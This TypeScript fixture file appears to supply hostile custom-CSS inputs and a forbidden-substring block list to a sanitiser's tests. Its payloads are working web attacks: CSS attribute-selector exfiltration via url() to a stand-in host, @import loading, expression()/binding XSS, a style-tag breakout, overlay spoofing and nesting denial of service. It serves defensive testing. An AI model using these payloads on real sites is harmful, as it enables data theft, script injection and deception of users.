/**
 * Hostile custom-CSS inputs, as data. Every payload is checked by sanitize-custom-css.test.ts: the
 * output contains none of FORBIDDEN_IN_OUTPUT nor the payload's own `mustNotContain`, the listed
 * removal codes are reported, and sanitising the output again changes nothing.
 */
export interface CssPayload {
  name: string;
  css: string;
  /** Extra substrings (case-insensitive) that must not survive, beyond FORBIDDEN_IN_OUTPUT. */
  mustNotContain: string[];
  /** Removal codes that must be reported. */
  codes: string[];
}

/** Substrings no sanitised output may ever contain (compared case-insensitively). */
export const FORBIDDEN_IN_OUTPUT = [
  'url(',
  '@import',
  'expression',
  '<',
  '\\',
  'position:fixed',
  'image-set',
  '[',
];

export const PAYLOADS: CssPayload[] = [
  {
    name: '@import url()',
    css: '@import url(evil.css); .mw-chat{color:red}',
    mustNotContain: ['evil'],
    codes: ['at-rule'],
  },
  { name: '@import string', css: '@import "x.css";', mustNotContain: ['x.css'], codes: ['at-rule'] },
  {
    name: '@font-face src',
    css: '@font-face{font-family:x;src:url(x)}',
    mustNotContain: ['font-face'],
    codes: ['at-rule'],
  },
  {
    name: 'background url',
    css: '.mw-chat{background:url(https://x/leak)}',
    mustNotContain: ['leak'],
    codes: ['url'],
  },
  {
    name: 'upper-case URL(',
    css: '.mw-chat{background:URL(https://x/leak)}',
    mustNotContain: ['leak'],
    codes: ['url'],
  },
  {
    name: 'image-set',
    css: '.mw-chat{background-image:image-set("x.png" 1x)}',
    mustNotContain: ['x.png'],
    codes: ['property'],
  },
  {
    name: 'image-set in background',
    css: '.mw-chat{background:image-set("x.png" 1x)}',
    mustNotContain: ['x.png'],
    codes: ['url'],
  },
  {
    name: '-webkit-image-set',
    css: '.mw-chat{background:-webkit-image-set("x.png" 1x)}',
    mustNotContain: ['x.png'],
    codes: ['url'],
  },
  { name: 'hex-escaped url', css: '.mw-chat{background:\\75rl(x)}', mustNotContain: ['rl('], codes: ['url'] },
  {
    name: 'hex-escaped URL upper',
    css: '.mw-chat{background:\\55 RL(x)}',
    mustNotContain: ['rl('],
    codes: ['url'],
  },
  { name: 'u\\rl escape', css: '.mw-chat{background:u\\rl(x)}', mustNotContain: ['rl('], codes: ['url'] },
  { name: 'u\\72l escape', css: '.mw-chat{background:u\\72l(x)}', mustNotContain: ['l(x'], codes: ['url'] },
  {
    name: 'cross-fade',
    css: '.mw-chat{background:cross-fade(url(a),url(b),50%)}',
    mustNotContain: ['fade'],
    codes: ['url'],
  },
  {
    name: 'element()',
    css: '.mw-chat{background:-moz-element(#x)}',
    mustNotContain: ['element'],
    codes: ['url'],
  },
  {
    name: 'expression',
    css: '.mw-chat{color:expression(alert(1))}',
    mustNotContain: ['alert'],
    codes: ['value'],
  },
  {
    name: 'behavior htc',
    css: '.mw-chat{behavior:url(x.htc)}',
    mustNotContain: ['behavior', 'htc'],
    codes: ['property'],
  },
  {
    name: '-moz-binding',
    css: '.mw-chat{-moz-binding:url(x.xml#xss)}',
    mustNotContain: ['binding'],
    codes: ['property'],
  },
  {
    name: 'attribute exfiltration',
    css: 'input[value^="a"]{background:url(//x/a)}',
    mustNotContain: ['value^'],
    codes: ['selector'],
  },
  {
    name: 'attribute selector',
    css: 'a[href*=secret]{color:red}',
    mustNotContain: ['secret'],
    codes: ['selector'],
  },
  {
    name: 'style breakout',
    css: '</style><script>alert(1)</script>',
    mustNotContain: ['script', 'alert'],
    codes: ['parse-error'],
  },
  {
    name: 'comment then breakout',
    css: '/* comment */ </style>',
    mustNotContain: ['comment', 'style'],
    codes: [],
  },
  { name: 'html comment open', css: '<!-- p{color:red} -->', mustNotContain: ['!--', '-->'], codes: [] },
  {
    name: 'escaped < in string',
    css: '.mw-chat{font-family:"x\\3c/style>"}',
    mustNotContain: ['style'],
    codes: ['value'],
  },
  {
    name: 'fixed overlay',
    css: '.mw-chat{position:fixed;inset:0;z-index:99999;background:white}',
    mustNotContain: ['fixed', 'inset', 'z-index'],
    codes: ['property'],
  },
  {
    name: 'absolute position',
    css: '.mw-chat{position: absolute; top:0}',
    mustNotContain: ['absolute', 'top'],
    codes: ['property'],
  },
  {
    name: 'content spoof',
    css: '.mw-chat{content:"Call 555"}',
    mustNotContain: ['555', 'content'],
    codes: ['property'],
  },
  { name: 'custom property url', css: '.mw-page{--x:url(a)}', mustNotContain: ['--x'], codes: ['property'] },
  { name: 'var()', css: '.mw-chat{color:var(--x)}', mustNotContain: ['var('], codes: ['value'] },
  { name: 'attr()', css: '.mw-chat{color:attr(data-w px)}', mustNotContain: ['attr('], codes: ['value'] },
  {
    name: 'nested media url',
    css: '@media screen { body{ background:url(x) } }',
    mustNotContain: ['@media'],
    codes: ['at-rule'],
  },
  {
    name: '@supports',
    css: '@supports (display:grid){p{color:red}}',
    mustNotContain: ['supports'],
    codes: ['at-rule'],
  },
  {
    name: '@keyframes',
    css: '@keyframes k{from{color:red}}',
    mustNotContain: ['keyframes'],
    codes: ['at-rule'],
  },
  { name: '@charset', css: '@charset "utf-8";', mustNotContain: ['charset'], codes: ['at-rule'] },
  {
    name: '@namespace',
    css: '@namespace svg url(http://www.w3.org/2000/svg);',
    mustNotContain: ['namespace'],
    codes: ['at-rule'],
  },
  { name: 'unknown at-rule', css: '@evil x{p{color:red}}', mustNotContain: ['evil'], codes: ['at-rule'] },
  {
    name: 'deep garbage braces',
    css: `${'{'.repeat(500)}p{color:red}${'}'.repeat(3)}`,
    mustNotContain: ['{{'],
    codes: ['parse-error'],
  },
  {
    name: 'deep nested media',
    css: `${'@media print{'.repeat(1400)}p{color:red}`,
    mustNotContain: ['@media print{@media print{@media print{@media print{'],
    codes: [],
  },
  {
    name: 'escaped property name',
    css: '.mw-chat{\\62 ackground:url(x)}',
    mustNotContain: ['ackground'],
    codes: ['url'],
  },
  {
    name: 'escaped property, plain value',
    css: '.mw-chat{\\62 ackground:red}',
    mustNotContain: ['ackground'],
    codes: ['escape'],
  },
  { name: 'escaped class', css: '.\\31 23{color:red}', mustNotContain: ['123', '31'], codes: ['escape'] },
  {
    name: 'javascript: string',
    css: '.mw-chat{font-family:"javascript:alert(1)"}',
    mustNotContain: ['javascript'],
    codes: ['value'],
  },
  { name: ':has()', css: 'form:has(input){color:red}', mustNotContain: [':has'], codes: ['selector'] },
  {
    name: ':host / ::part',
    css: ':host{color:red} x::part(y){color:red}',
    mustNotContain: ['host', 'part'],
    codes: ['selector'],
  },
  { name: ':visited', css: 'a:visited{color:red}', mustNotContain: ['visited'], codes: ['selector'] },
  { name: 'sibling of root', css: 'body ~ div{color:red}', mustNotContain: ['~'], codes: ['selector'] },
  {
    name: 'filter and visibility',
    css: '.mw-chat{filter:blur(9px);visibility:hidden}',
    mustNotContain: ['blur', 'hidden'],
    codes: ['property'],
  },
];
